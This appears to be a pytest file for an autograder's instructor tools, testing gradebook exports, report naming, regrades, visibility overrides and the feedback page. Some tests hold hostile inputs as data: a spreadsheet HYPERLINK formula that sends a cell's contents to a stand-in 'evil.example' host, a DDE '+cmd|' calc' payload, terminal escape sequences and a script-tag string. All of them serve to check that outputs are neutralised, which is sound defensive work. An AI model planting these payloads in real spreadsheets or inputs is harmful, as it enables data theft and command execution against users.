"""The instructor tools' rough edges (issues 19 and 23): report names that never collide,
spreadsheet cells and terminal text a submission cannot drive, visibility overrides that must
match, regrades that reuse what the first grading used, ``similar`` on the answers' length and
bounded, and the wording and width of the feedback page."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from autograder.instructor.batch import Progress
from autograder.instructor.gradebook import Row, read_csv, to_canvas, to_csv
from autograder.grade import Report, failed_report
from autograder.instructor.html_report import to_html
from autograder.instructor.regrade import Change, to_csv as changes_csv, to_text as changes_text
from autograder.engine.registry import FAILED, PASSED, Outcome, load_exercises, select
from autograder.instructor.report import report_names, to_results, to_text
from autograder.engine.visibility import check_overrides, parse_overrides

sys.path.insert(0, str(Path(__file__).parent))
from instructor_class import LESSON, make_class

ROOT = Path(__file__).resolve().parents[2]
EXERCISES = load_exercises()
ADAM = EXERCISES["ex5_3"]


def cli(*args):
    return subprocess.run([sys.executable, "-m", "autograder", *map(str, args)], capture_output=True, text=True,
                          cwd=ROOT, timeout=900)


@pytest.fixture(scope="module")
def klass(tmp_path_factory):
    if not LESSON.exists():
        pytest.skip("chapter 5 lesson missing")
    return make_class(tmp_path_factory.mktemp("class"), 24, seed=1)


def _report(submission="alice.py", message="value differs", error=None):
    r = Report(submission, 3, exercises=["ex5_3"], error=error)
    for i, t in enumerate(ADAM.tests):
        ok = i % 2 == 0
        r.outcomes.append(Outcome("ex5_3", t.title, t.points if ok else 0.0, t.points, PASSED if ok else FAILED,
                                  "" if ok else message, "visible" if i < 3 else "hidden"))
    return r


# --- issue 19, item 9: report names -------------------------------------------------------------

def test_report_names_are_unique_and_do_not_depend_on_the_order():
    subs = ["class/alice/submission.py", "class/bob/submission.py", "class/carl.py", "x/a/b/n.py", "y/a/b/n.py"]
    names = report_names(subs)
    assert names == {"class/alice/submission.py": "alice__submission.py", "class/bob/submission.py": "bob__submission.py",
                     "class/carl.py": "carl.py", "x/a/b/n.py": "x__a__b__n.py", "y/a/b/n.py": "y__a__b__n.py"}
    assert report_names(subs[::-1]) == names
    # A folder-made name that is also a file's own name still gets a name of its own.
    clash = report_names(["a/x.py", "b/x.py", "c/a__x.py"])
    assert len(set(clash.values())) == 3


def test_reports_of_two_submissions_with_one_file_name_do_not_overwrite_each_other(tmp_path):
    for who in ("alice", "bob"):
        (tmp_path / who).mkdir()
        (tmp_path / who / "submission.py").write_text(f"WHO = {who!r}\n")
    proc = cli("grade", tmp_path / "alice" / "submission.py", tmp_path / "bob" / "submission.py",
               "--exercise", "ex1_1", "--seed", "1", "--reports", tmp_path / "reports")
    assert proc.returncode == 0, proc.stderr
    docs = sorted(p.name for p in (tmp_path / "reports").glob("*.json"))
    assert docs == ["alice__submission.py.json", "bob__submission.py.json"]
    assert {json.loads((tmp_path / "reports" / d).read_text())["submission"] for d in docs} == {
        str(tmp_path / w / "submission.py") for w in ("alice", "bob")}


# --- issue 19, item 10: spreadsheet formulas and terminal escapes -------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click").py'


def test_no_cell_of_the_gradebooks_is_a_formula():
    rows = [Row(EVIL, {"ex5_3": 2.0}, 2.0, 9.0, "3", "@SUM(A1:A9)"), Row("+cmd|' /C calc'!A0.py", {"ex5_3": 0.0}, 0, 9)]
    for text in (to_csv(rows), to_canvas(rows, EXERCISES, roster={EVIL: {"Student": "-2+3+cmd|' /C calc'!A0"}}),
                 changes_csv([Change(EVIL, 2.0, 0.0, [("=1+1", 2.0, 0.0)]), Change("ok.py", 1.0, 1.0)])):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.lstrip("+-").replace(".", "").isdigit()]
        assert formulas == [], formulas
    assert "+0" in changes_csv([Change("ok.py", 1.0, 1.0)])          # numbers stay numbers


def test_a_gradebook_reads_back_the_names_it_neutralised(tmp_path):
    path = tmp_path / "grades.csv"
    path.write_text(to_csv([Row(EVIL, {"ex5_3": 2.0}, 2.0, 9.0, "3")]))
    assert read_csv(path)[0].submission == EVIL


def test_the_text_report_does_not_pass_escape_sequences_to_the_terminal():
    name = "evil\x1b[2J\x1b]0;pwned\x07\r✓ ex5_3 adam: 9/9\u202e.py"
    r = _report(name, message="your adam_update raised ValueError: \x1b[32mok\x1b[0m\rall tests pass")
    r.notes.append("loading failed: \x1b[1A\x1b[2K✓ everything passed")
    text = to_text(r)
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text and "\u202e" not in text
    assert text.splitlines()[0].startswith("evil\\x1b[2J")           # the file name: one line, escaped
    changes = changes_text([Change(name, 0.0, 1.0, [(name, 0.0, 1.0)])])
    assert "\x1b" not in changes and "\r" not in changes
    stream = io.StringIO()
    Progress(1, stream=stream).update(Report(name + "\n[1/1] fake.py: 9/9", 1, error="\x1b[2Jboom"))
    assert "\x1b" not in stream.getvalue() and stream.getvalue().count("\n") == 1


def test_an_unreadable_submission_says_why_once():
    r = failed_report("broken.ipynb", select(EXERCISES, ["ex5_*"]), 3,
                      "the submission could not be read: not a notebook")
    assert to_text(r).count("not a notebook") == 1
    assert to_html(r, stage="instructor").count("not a notebook") == 1


# --- issue 23 §3: visibility overrides that match nothing ---------------------------------------

def test_a_visibility_override_that_matches_nothing_is_refused(tmp_path):
    graded = select(EXERCISES, ["ex5_*"])
    check_overrides(parse_overrides(["ex5_*=hidden", "ex5_3::test_adam_*=after_due_date"]), graded)
    for spec in ("ex9_1=hidden", "ex5_3::test_adam_trajectroy=hidden", "ex6_1=hidden"):
        with pytest.raises(ValueError, match="no "):
            check_overrides(parse_overrides([spec]), graded)
    from autograder.instructor.gradescope import build_zip
    with pytest.raises(ValueError, match="test_adam_trajectroy"):
        build_zip(tmp_path / "a.zip", ["ex5_3"], visibility=["ex5_3::test_adam_trajectroy=hidden"])
    sub = tmp_path / "a.py"
    sub.write_text("x = 1\n")
    proc = cli("grade", sub, "--exercise", "ex5_3", "--visibility", "ex9_1=hidden")
    assert proc.returncode == 2 and "no graded exercise matches 'ex9_1'" in proc.stderr


# --- issue 23 §3: the feedback page -------------------------------------------------------------

def test_after_the_due_date_the_page_does_not_promise_grading_at_submission():
    r = _report()
    before = to_html(r, stage="before_due")
    assert "graded when you submit" in before
    after = to_html(r, stage="after_due_date")
    assert "graded when you submit" not in after and "count in your score" in after


def test_the_page_says_when_book_links_are_paths():
    message = f"value differs\nThis matches a known mistake: x. See {ADAM.url('adam-bias-correction')}"
    page = to_html(_report(message=message))
    if "the book, lessons/" in message:
        assert "id='book-links'" in page and "OLF_BOOK_URL" in page
    assert "id='book-links'" not in to_html(_report())                 # no link, nothing to say


def test_results_json_renders_students_code_as_text():
    doc = to_results(_report(message="<script>alert(1)</script> **bold**"), extended=False)
    assert doc["output_format"] == "text" and doc["test_output_format"] == "text"


@pytest.mark.browser
def test_the_feedback_page_fits_a_phone(tmp_path, browser):
    wide = "[" + ",".join(f"{0.1 * i:.12f}" for i in range(40)) + "]"
    r = _report(message=f"ex5_3 at params=np.array({wide}) returned {wide}\nexpected {wide}")
    page = tmp_path / "phone.html"
    page.write_text(to_html(r, stage="instructor"), encoding="utf-8")
    size = browser.get_window_size()
    try:
        browser.set_window_size(375, 812)
        browser.get(page.as_uri())
        scroll, client = browser.execute_script(
            "return [document.documentElement.scrollWidth, document.documentElement.clientWidth]")
    finally:
        browser.set_window_size(size["width"], size["height"])
    assert client <= 400 and scroll <= client, (scroll, client)


# --- issue 23 §3: similar measures the answers, and is bounded ----------------------------------

@pytest.mark.slow
def test_similar_compares_adamw_on_the_students_answers(klass, tmp_path):
    """The reference's AdamW is one call of its Adam (56 tokens): measured on it, ex5_4 was never
    compared, although students who write Adam out again write their longest answer there."""
    pytest.importorskip("copydetect")
    import random
    import instructor_class as gen
    from autograder.instructor.similarity import find_similar
    rng = random.Random(3)
    paths = []
    for i in range(8):
        cells = gen.student_cells(rng)
        init, body = gen.adam(rng)
        cells["ex5_4"] = gen._cell("ex5_4", init, ["params = np.asarray(params, dtype=float) * (1 - lr * weight_decay)",
                                                  *body])
        paths.append(tmp_path / f"w{i}.ipynb")
        paths[-1].write_text(json.dumps(gen._notebook(cells)), encoding="utf-8")
    result = find_similar([str(p) for p in paths], select(EXERCISES, ["ex5_*"]))
    assert "ex5_4" in result.exercises, result.skipped
    # A class whose AdamW is a call of their Adam, in a few forms: nothing to tell apart there.
    called = find_similar([str(p) for p in klass[0]], select(EXERCISES, ["ex5_*"]))
    assert "ex5_4" in called.skipped and "ex5_3" in called.exercises


@pytest.mark.slow
def test_similar_is_bounded_on_a_huge_function(klass, tmp_path):
    """Issue 19, item 14: one 4.9 MB function took 67 s and 2 GB. A long answer is compared on
    its first MAX_CHARS characters; a cell too long to parse cheaply is not compared."""
    pytest.importorskip("copydetect")
    from autograder.instructor.similarity import MAX_CELL, MAX_CHARS, find_similar
    paths, _ = klass

    def submission(name, lines):
        body = "".join(f"    x{i} = params * {i} + grads\n" for i in range(lines))
        path = tmp_path / name
        path.write_text("import numpy as np\n\ndef adagrad_init(params):\n    return None\n\n"
                        f"def adagrad_update(params, grads, state, *, lr=0.01, eps=1e-8):\n{body}"
                        "    return params, state\n")
        return str(path)

    long, huge = submission("long.py", 4_000), submission("huge.py", 40_000)      # 0.12 MB, 1.2 MB
    start = time.monotonic()
    result = find_similar([str(p) for p in paths[:3]] + [long, huge], select(EXERCISES, ["ex5_1"]))
    assert any(n.startswith(long) and f"compared on its first {MAX_CHARS} characters" in n for n in result.notes)
    assert any(n.startswith(huge) and f"more than {MAX_CELL}" in n for n in result.notes), result.notes
    assert time.monotonic() - start < 60


# --- issue 18 §3 and 23 §3: a regrade reuses the exercises, the seed and the late policy --------

@pytest.mark.slow
def test_regrade_reuses_exercises_seed_and_lateness(klass, tmp_path):
    paths, _ = klass
    subs = paths[:2]
    times = tmp_path / "times.csv"
    times.write_text(f"submission,time\n{subs[0].name},2026-05-01T10:00Z\n{subs[1].name},2026-05-03T10:00Z\n")
    first = cli("grade", *subs, "--exercise", "ex5_1", "--seed", "9", "--reports", tmp_path / "r",
                "--deadline", "2026-05-01T12:00Z", "--late-penalty", "25%", "--submission-times", times,
                "--csv", tmp_path / "first.csv")
    assert first.returncode == 0, first.stderr
    again = cli("regrade", tmp_path / "r", *subs, "--csv", tmp_path / "again.csv", "--class-report",
                tmp_path / "class.html")
    assert again.returncode == 0, again.stderr
    assert "seed 9" in again.stderr and "regrade: 0 of 2 submission(s) changed" in again.stdout, again.stdout
    with open(tmp_path / "again.csv") as f:
        rows = list(csv.DictReader(f))
    assert [k for k in rows[0] if k.startswith("ex")] == ["ex5_1"]               # not the whole chapter
    assert [r["days_late"] for r in rows] == ["0", "2"]                           # the late policy kept
    assert float(rows[1]["final"]) == pytest.approx(0.5 * float(rows[1]["total"]))
    with open(tmp_path / "first.csv") as f:
        assert [r["final"] for r in csv.DictReader(f)] == [r["final"] for r in rows]
    assert json.loads((tmp_path / "class.json").read_text())["changes"] == []
    late = json.loads((tmp_path / "r" / f"{subs[1].name}.json").read_text())["late"]
    assert late["policy"].startswith("deadline 2026-05-01T12:00+00:00") and late["days"] == 2


def test_an_untouched_question_is_not_said_to_raise():
    from autograder.engine.diagnosis import run_test
    from autograder.engine.questions import AnswerSubject, questions, read_answer
    ex = next(iter(questions(EXERCISES).values()))
    outcome = run_test(ex.tests[0], AnswerSubject(ex, read_answer([f"{ex.name} = None"], ex.name)), 0)
    assert outcome.status == "not attempted"
    assert "NotImplementedError" not in outcome.message and f"`{ex.name} = None`" in outcome.message


def test_a_state_is_described_in_english():
    import numpy as np
    from autograder.worker.plain import describe, to_plain
    from solutions.adaptive import AdamState
    assert describe(to_plain(AdamState(0, np.zeros(1), np.zeros(1)))) == "a named tuple AdamState with fields t, m, v"


def test_an_empty_notebook_is_called_empty(tmp_path):
    from autograder.loader import SubmissionError, read_submission
    empty = tmp_path / "empty.ipynb"
    empty.write_text("\n")
    with pytest.raises(SubmissionError, match="is empty") as info:
        read_submission(empty)
    assert "JSONDecodeError" not in str(info.value)


def test_similar_prints_distinct_names_and_no_escapes():
    from autograder.instructor.similarity import Pair, Result, to_text as similar_text
    a, b = "class/alice/submission.py", "class/bob\x1b[2J/submission.py"
    text = similar_text(Result([Pair(a, b)], [], {}, ["class/x\x1b]0;t\x07.py: not compared"]))
    assert "alice__submission.py ~ bob\\x1b[2J__submission.py" in text
    assert "\x1b" not in text and "\x07" not in text
